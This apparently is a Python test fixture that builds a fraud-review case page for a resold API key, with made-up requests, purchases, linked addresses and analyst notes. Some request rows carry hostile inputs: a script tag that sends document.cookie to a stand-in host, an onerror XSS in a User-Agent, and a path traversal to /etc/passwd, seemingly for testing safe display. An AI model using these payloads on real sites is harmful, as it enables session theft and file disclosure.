"""A key that was resold, as its case's page shows it: what the tests of the page, and people who look at it, see."""

from math import exp

from ratelimit.core.case import CaseReason
from ratelimit.core.principal import Principal
from ratelimit.ledger.cases import CaseRow, CaseView, Note, OpeningRow, PersonRef, Place, SubjectRef
from ratelimit.ledger.evidence import Bin, BoughtRow, LifeRow, Refused, RequestRow
from ratelimit.review.deed import ActionView
from ratelimit.review.dossier import Alike, Customer, Dossier, InForce, Linked, Page, Privacy, Weighing

NOW = 1_795_527_127.0  # Tue 24 Nov 2026, 14:32:07 in Berlin
MIRA = Principal(id=1, login="mira", name="Mira Keller", role="analyst", via="session")
TOMAS = PersonRef(2, "tomas", "Tomas Okafor", "TO")
PEOPLE = {"mira": PersonRef(1, "mira", "Mira Keller", "MK"), "tomas": TOMAS, "ana": PersonRef(3, "ana", "Ana Silva", "AS")}
KEY = SubjectRef(7, "api_key", "5f3c91aa00", NOW - 620 * 86_400.0)
ACCOUNT = SubjectRef(5, "account", "Halden Studio", NOW - 610 * 86_400.0, 1)
SCRIPT = "/v1/generate?style=<script>fetch('//c.test/'+document.cookie)</script>"


def reason(source: str, value: str, words: str, normal: str, signed: float) -> CaseReason:
    return CaseReason(kind="model", source=source, value=value, words=words, normal=normal, signed=signed, signal=source)


AGAINST = (
    reason("addresses", "418", "addresses that used it in 24 h", "1–9", 4.613),
    reason("countries", "31", "countries in 24 h", "1–3", 3.919),
    reason("gap_variation", "4 %", "variation in the gaps between requests", "38–210 %", -3.415),
    reason("hosting_share", "87 %", "requests from hosting networks", "0–35 %", 2.623),
)
FOR = (
    reason("denied_share_1d", "0.2 %", "answers that were 401 or 403", "0–6 %", -0.3),
    reason("cost_1d", "4.1 tokens", "cost of a request", "1–12 tokens", 0.3),
    reason("age_s", "620 days", "age of the account", "3–1,900 days", 0.6),
)
ADDRESSES = {
    90: ("203.0.113.77", "BR, mobile"),
    91: ("192.0.2.18", "NL, hosting"),
    92: ("198.51.100.7", "DE"),
    93: ("2001:db8:7::1a", "VN, hosting"),
}


def request(
    number: int, decision: str, address: int, path: str = "/v1/generate", agent: str | None = "python-requests/2.32.3"
) -> RequestRow:
    throttled = decision == "throttle"
    return RequestRow(
        id=f"7KQ2-M4X{number}",
        at=NOW - 0.8 - number * 0.27,
        decision=decision,
        reason="risk_throttled" if throttled else "ok",
        limit_name="key" if throttled else None,
        account=5,
        api_key=7,
        address=address,
        method="POST",
        path=path,
        user_agent=agent,
        referrer=None,
        cost=4,
        status=None if throttled else 200,
        weight=1.0 if throttled else 40.0,
        remaining=0 if throttled else None,
        retry_after=6.0 if throttled else None,
        risk=0.9994 if throttled else None,
        shadow=(),
    )


REQUESTS = (
    request(0, "throttle", 90),
    request(1, "throttle", 91, SCRIPT, "Mozilla/5.0 '><img src=x onerror=alert(1)>"),
    request(2, "allow", 92, agent="halden-render/4.2 (+https://halden.test)"),
    request(3, "throttle", 93),
    request(4, "throttle", 91, "/v1/models/..%2f..%2f..%2fetc/passwd", "Mozilla/5.0 (\u202etobe…"),
    request(5, "throttle", 90, agent="node"),
    request(6, "throttle", 90, agent=None),
    *(request(number, "throttle", 93) for number in range(7, 12)),
)


def purchase(number: int, hours: float, outcome: str = "succeeded", minor: int = 18_000) -> BoughtRow:
    return BoughtRow(
        id=f"pay_{number}",
        attempt=1,
        record=f"rec-{number}",
        at=NOW - hours * 3_600,
        kind="purchase",
        account=5,
        address=92,
        card=30,
        amount_minor=minor,
        currency="EUR",
        tokens=60_000,
        last4="4821",
        funding="prepaid",
        decision="allow",
        action="accept",
        reason="ok",
        rule=None,
        held=0,
        risk=None,
        outcome=outcome,
        refunded=False,
        disputed=False,
        warned=False,
        label="",
    )


PURCHASES = (purchase(3, 29.3), purchase(2, 29.5, "failed"), purchase(1, 29.7, "failed"), purchase(0, 900.0, minor=11_000))
LIVES = tuple(
    LifeRow(number, NOW - hours * 3_600, kind, 5, 7 if kind == "key_created" else None, 92, "Firefox")
    for number, (kind, hours) in enumerate((("key_created", 17.6), ("login", 29.8), ("login", 46.2)))
)


def linked(subject: int | None, kind: str, shown: str | None, how: str, numbers: tuple[int, int, int], many: int = 1) -> Linked:
    count, good, fraud = numbers
    return Linked(
        subject=subject,
        kind=kind,
        shown=shown,
        how=how,
        first_at=NOW - 20_736_000,
        last_at=NOW,
        count=count,
        good=good,
        fraud=fraud,
        many=many,
    )


LINKED = (
    linked(5, "account", "acc_2M8K1Q", "owns", (1, 1, 0)),
    linked(30, "card", "•4821, prepaid", "paid", (1, 1, 2)),
    linked(92, "ip", "198.51.100.7", "requested", (61, 3, 0)),
    linked(None, "ip", None, "requested", (4_690, 14, 22), many=416),
    linked(95, "network", "203.0.113.0/24", "requested", (214, 212, 9)),
    linked(None, "api_key", None, "owns", (2, 0, 0), many=2),
)


def action(number: int, then: str, days: float, lasts_s: float, by: str, state: str, **more: object) -> ActionView:
    at = NOW - days * 86_400
    fields = {
        "id": number,
        "then": then,
        "state": state,
        "case": 2_288,
        "target": "7",
        "target_kind": "api_key",
        "shown": "5f3c91aa00",
        "by": by,
        "at": at,
        "until": at + lasts_s,
        "wanted_until": None,
        "reason": "",
        "detail": {},
        "needs_second": False,
        "second_by": None,
        "undone_at": None,
        "undone_why": None,
        "label": None,
        "override": None,
        "bulk": None,
    }
    return ActionView(**{**fields, **more})  # type: ignore[arg-type]  # by name


def row(**more: object) -> CaseRow:
    fields: dict[str, object] = {
        "number": 2_288,
        "anchor": KEY,
        "state": "open",
        "opened_at": NOW - 42 * 60,
        "opened_by": "model",
        "opened_word": "risk 0.9991",
        "priority": 1,
        "at_risk_minor": 21_240,
        "currency": "EUR",
        "blast_radius": 0,
        "reasons": AGAINST[:3],
        "version": 3,
        "risk": 0.9994,
        "plan": "pro",
        "beside": ACCOUNT,
        "due_at": NOW + 18 * 60,
        "locked_by": PEOPLE["mira"],
        "locked_until": NOW + 13 * 60,
    }
    return CaseRow(**{**fields, **more})  # type: ignore[arg-type]  # by name


OPENING = OpeningRow("7KQ2", "model", "risk 0.9991 in shadow rule key-fanout", NOW - 42 * 60, None, 0)


def bins() -> tuple[Bin, ...]:
    found = [Bin(step, "allow", 10.0 + step * 7 % 23) for step in range(0, 144, 2)]
    found += [Bin(step, "allow", 20 + 850 * exp((step - 191) / 14)) for step in range(140, 191)]
    return (*found, Bin(191, "allow", 82.0), Bin(191, "throttle", 1_208.0))


def dossier(**more: object) -> Dossier:
    fields: dict[str, object] = {
        "now": NOW,
        "subject": KEY,
        "case": CaseView(row=row(), openings=(OPENING,)),
        "account": ACCOUNT,
        "plan": "pro",
        "place": Place(3, 23, 2_285, 2_291),
        "customer": Customer(purchases=6, paid_minor=131_000, currency="EUR", keys=2),
        "in_force": InForce(
            decision="throttle", words="10 requests a minute", since=NOW - 720, by="risk 0.9994, above 0.999", until=NOW + 2_880
        ),
        "weighing": Weighing(
            risk=0.9994,
            against=AGAINST,
            in_favour=FOR,
            thresholds=(("throttle", 0.999),),
            model="requests 2026-11-18",
            signals=24,
            version=7,
            record="7KQ2-M4X1",
            at=NOW,
        ),
        "tab": "requests",
        "span": "48h",
        "decided": {"allow": 3_604.0, "throttle": 1_208.0},
        "bins": bins(),
        "addresses": {step: max(1, round(140 * exp((step - 47) / 5))) for step in range(48)},
        "page": Page(requests=REQUESTS, purchases=PURCHASES, lives=LIVES),
        "purchases": PURCHASES,
        "lives": LIVES,
        "refusals": (Refused("throttle", "rate_exceeded", "key", 212, NOW - 144 * 86_400, NOW - 143 * 86_400),),
        "usual": frozenset({92}),
        "linked": LINKED,
        "actions": (
            action(2, "allow", 43, 30 * 86_400, "ana", "expired"),
            action(1, "throttle", 43.2, 3_600, "ana", "undone", undone_at=NOW - 43 * 86_400, undone_why="false alarm: moved their CI"),
        ),
        "notes": (Note(9, NOW - 396, "tomas", "Asked @mira to look: last month's spike was their CI move, this one is not.", ("mira",)),),
        "people": PEOPLE,
        "alike": (
            Alike(
                number=2_268,
                anchor=SubjectRef(8, "api_key", "91e0b2", 0.0),
                priority=3,
                state="open",
                at=NOW - 7_200,
                verdict=None,
                words="22 addresses, 9 of them also used this key",
            ),
        ),
        "privacy": Privacy(addresses_until=NOW + 30 * 86_400, records_until=NOW + 90 * 86_400, share_left=0.06),
        "names": {number: SubjectRef(number, "ip", text, NOW) for number, (text, _) in ADDRESSES.items()},
    }
    return Dossier(**{**fields, **more})  # type: ignore[arg-type]  # by name


def where(shown: str) -> str:
    return dict(ADDRESSES.values()).get(shown, "")
